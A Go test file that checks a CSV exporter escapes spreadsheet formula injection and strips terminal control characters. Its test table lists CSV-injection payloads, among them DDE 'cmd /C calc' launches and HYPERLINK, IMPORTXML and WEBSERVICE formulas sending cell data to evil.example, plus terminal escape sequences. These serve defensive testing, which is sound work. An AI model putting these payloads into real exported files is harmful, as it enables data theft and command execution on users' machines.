package output

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/epicevents/epicevents/internal/termsafe"
)

// formulaCases are the formula-injection payloads of the OWASP CSV Injection
// page and of common payload lists, with what EscapeFormula makes of them,
// and values that must come through untouched.
var formulaCases = []struct{ in, want string }{
	// At the start of the cell.
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`=cmd|' /C notepad'!'A1'`, `'=cmd|' /C notepad'!'A1'`},
	{`@SUM(1+9)*cmd|' /C calc'!A0`, `'@SUM(1+9)*cmd|' /C calc'!A0`},
	{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
	{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
	{`=10+20+cmd|' /C calc'!A0`, `'=10+20+cmd|' /C calc'!A0`},
	{`=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")`, `'=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")`},
	{`=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`, `'=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`},
	{`=WEBSERVICE("http://evil.example/")`, `'=WEBSERVICE("http://evil.example/")`},
	{`=DDE("cmd";"/C calc";"!A0")A0`, `'=DDE("cmd";"/C calc";"!A0")A0`},
	{"\t=1+1", "'\t'=1+1"},
	{"\r=1+1", "'\r'=1+1"},
	{"=", "'="},
	{"-", "'-"},
	{"+", "'+"},
	{"@", "'@"},
	{"-12.", "'-12."},
	{"-1+2", "'-1+2"},
	{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
	{"@x", "'@x"},
	// After a separator of some spreadsheet: ',' ';' tab, line breaks.
	{`Acme;=cmd|' /C calc'!A0`, `Acme;'=cmd|' /C calc'!A0`},
	{"Acme,=1+1", "Acme,'=1+1"},
	{"Acme\t=1+1", "Acme\t'=1+1"},
	{"Acme\n-1+1+cmd|' /C calc'!A0", "Acme\n'-1+1+cmd|' /C calc'!A0"},
	{"Acme\r\n@SUM(A1)", "Acme\r\n'@SUM(A1)"},
	{"Acme\r+1", "Acme\r'+1"},
	{"a;;=x", "a;;'=x"},
	{"a;\t=x", "a;'\t'=x"},
	{"x;+y;-z;@w", "x;'+y;'-z;'@w"},
	{"=a;=b", "'=a;'=b"},
	// Double quotes between the separator and the character.
	{`a;"=x"`, `a;"'=x"`},
	{`a,""@x`, `a,""'@x`},
	{`"=x"`, `"'=x"`},
	{`a,"-1+cmd|' /C calc'!A0"`, `a,"'-1+cmd|' /C calc'!A0"`},
	// ... but a number or a phone between them is data (JSON text).
	{`{"phone":[null,"+33612345678"],"due":["-12.50","0.00"]}`, `{"phone":[null,"+33612345678"],"due":["-12.50","0.00"]}`},
	{`{"phone":[null,"+33 6"]}`, `{"phone":[null,"'+33 6"]}`},
	{`a;"-5`, `a;"'-5`},
	// Untouched: plain numbers, phones, and these characters elsewhere.
	{"", ""},
	{"1500.00", "1500.00"},
	{"-12.50", "-12.50"},
	{"-12", "-12"},
	{"+12", "+12"},
	{"12.50", "12.50"},
	{"+33612345678", "+33612345678"},
	{"kevin@startup.io", "kevin@startup.io"},
	{"jean-pierre.o-neil@start-up.io", "jean-pierre.o-neil@start-up.io"},
	{"foo=bar", "foo=bar"},
	{"a - b", "a - b"},
	{"x, -1", "x, -1"},
	{"2025-03-09T14:05:00Z", "2025-03-09T14:05:00Z"},
	{"53 Rue du Château, 41120 Candé-sur-Beuvron, France", "53 Rue du Château, 41120 Candé-sur-Beuvron, France"},
	{"Wedding starts at 3PM, by the river.\nKate needs to organize the DJ.", "Wedding starts at 3PM, by the river.\nKate needs to organize the DJ."},
	{`DDE ("cmd";"/C calc";"!A0")A0`, `DDE ("cmd";"/C calc";"!A0")A0`},
	{"Lou Bouzin (+666 12345)", "Lou Bouzin (+666 12345)"},
}

func TestEscapeFormula(t *testing.T) {
	for _, c := range formulaCases {
		if got := EscapeFormula(c.in); got != c.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// spreadsheetCells splits CSV text the way a spreadsheet might when it
// guesses the wrong separator or ignores quotes: at every ',', ';', tab and
// line break. Each piece is returned without the double quotes around it,
// as the spreadsheet would show it.
func spreadsheetCells(s string) []string {
	pieces := strings.FieldsFunc(s, func(r rune) bool {
		return r == ',' || r == ';' || r == '\t' || r == '\n' || r == '\r'
	})
	for i, p := range pieces {
		pieces[i] = strings.Trim(p, `"`)
	}
	return pieces
}

// formulaFree fails when any way of splitting out leaves a cell that a
// spreadsheet would run: one that starts with a formula character and is not
// a plain number or a phone (up to a double quote, where JSON text has one).
func formulaFree(t *testing.T, out string) {
	t.Helper()
	for _, cell := range spreadsheetCells(out) {
		value, _, _ := strings.Cut(cell, `"`)
		if cell == "" || isPlainNumber(value) || isPhone(value) {
			continue
		}
		switch cell[0] {
		case '=', '+', '-', '@':
			t.Errorf("a spreadsheet could run %q in:\n%s", cell, out)
		}
	}
}

func TestCSVCellsNoSpreadsheetRuns(t *testing.T) {
	type row struct {
		ID      int               `json:"id"`
		Name    string            `json:"name"`
		Phone   *string           `json:"phone"`
		Total   money             `json:"total"`
		Changes map[string]change `json:"changes"`
	}
	fields := []Field[row]{
		Int("id", func(r row) int64 { return int64(r.ID) }),
		Text("name", func(r row) string { return r.Name }),
		OptText("phone", func(r row) *string { return r.Phone }),
		Money("total", func(r row) money { return r.Total }),
		JSONValue("changes", func(r row) any { return r.Changes }),
	}
	var rows []row
	for i, c := range formulaCases {
		rows = append(rows, row{ID: i + 1, Name: c.in, Phone: ptr("+33612345678"), Total: -1250,
			Changes: map[string]change{"name": {c.in, "x;" + c.in}}})
	}
	got := render(t, Options{Format: FormatCSV}, View[row]{Fields: fields}, rows)
	formulaFree(t, got)

	// The file is still valid CSV that gives back every value, guarded.
	recs, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil || len(recs) != len(rows)+1 {
		t.Fatalf("not valid CSV of %d records: %v", len(rows)+1, err)
	}
	for i, c := range formulaCases {
		want := EscapeFormula(termsafe.Text(c.in))
		if name := recs[i+1][1]; name != want {
			t.Errorf("name cell of %q = %q, want %q", c.in, name, want)
		}
		if recs[i+1][2] != "+33612345678" || recs[i+1][3] != "-12.50" {
			t.Errorf("phone or amount changed: %q", recs[i+1])
		}
	}
}

// Every text cell is quoted, numbers and booleans are not, null is empty.
func TestCSVQuotesTextCellsOnly(t *testing.T) {
	type row struct {
		ID     int64    `json:"id"`
		Name   string   `json:"name"`
		Amount money    `json:"amount"`
		Phone  *string  `json:"phone"`
		Signed bool     `json:"signed"`
		Count  *int     `json:"count"`
		Tags   []string `json:"tags"`
		Ratio  float64  `json:"ratio"`
	}
	fields := []Field[row]{
		Int("id", func(r row) int64 { return r.ID }),
		Text("name", func(r row) string { return r.Name }),
		Money("amount", func(r row) money { return r.Amount }),
		OptText("phone", func(r row) *string { return r.Phone }),
		Bool("signed", func(r row) bool { return r.Signed }),
		JSONValue("count", func(r row) any { return r.Count }),
		JSONValue("tags", func(r row) any { return r.Tags }),
		JSONValue("ratio", func(r row) any { return r.Ratio }),
	}
	got := render(t, Options{Format: FormatCSV}, View[row]{Fields: fields}, []row{
		{ID: 7, Name: "Kevin Casey", Amount: 150000, Phone: ptr("+33612345678"), Signed: true, Tags: []string{"a", "-b"}, Ratio: -0.5},
		{ID: 8, Name: `Say "hi"`, Count: ptr(-3)},
	})
	want := `"id","name","amount","phone","signed","count","tags","ratio"` + "\n" +
		`7,"Kevin Casey","1500.00","+33612345678",true,,"[""a"",""'-b""]",-0.5` + "\n" +
		`8,"Say ""hi""","0.00",,false,-3,,0` + "\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// Control characters in data never reach the output raw: CSV may be read on
// a terminal. Line breaks become line feeds; tabs stay.
func TestCSVControlCharacters(t *testing.T) {
	type row struct {
		S string            `json:"s"`
		M map[string]string `json:"m"`
	}
	fields := []Field[row]{
		Text("s", func(r row) string { return r.S }),
		JSONValue("m", func(r row) any { return r.M }),
	}
	got := render(t, Options{Format: FormatCSV}, View[row]{Fields: fields}, []row{
		{"\x1b]0;owned\x07Ann\x1b[2J", map[string]string{"k": "\x1b[31m\u009b\u202e"}},
		{"a\rb\r\nc\bd\x7fe\u0085f\xffg", nil},
		{"tab\there", nil},
	})
	for _, bad := range []string{"\x1b", "\x07", "\r", "\b", "\x7f", "\u0085", "\u009b", "\u202e", "\xff"} {
		if strings.Contains(got, bad) {
			t.Errorf("CSV holds %q raw:\n%q", bad, got)
		}
	}
	want := `"s","m"` + "\n" +
		`"�]0;owned�Ann�[2J","{""k"":""\u001b[31m\u009b\u202e""}"` + "\n" +
		"\"a\nb\nc�d�e�f�g\",\n" +
		"\"tab\there\",\n"
	if got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

// FuzzEscapeFormula checks the promise on any text: however a spreadsheet
// splits the cell, no piece is a formula, and the cell stays one valid CSV
// field that reads back as the guarded text.
func FuzzEscapeFormula(f *testing.F) {
	for _, c := range formulaCases {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		type row struct {
			S string `json:"s"`
		}
		var buf bytes.Buffer
		l := NewList(&buf, Options{Format: FormatCSV}, View[row]{Fields: []Field[row]{Text("s", func(r row) string { return r.S })}})
		if err := l.Row(row{s}); err != nil {
			t.Fatal(err)
		}
		if err := l.Close(); err != nil {
			t.Fatal(err)
		}
		formulaFree(t, buf.String())
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 2 || len(recs[1]) != 1 {
			t.Fatalf("not one CSV cell: %q, %v", recs, err)
		}
	})
}
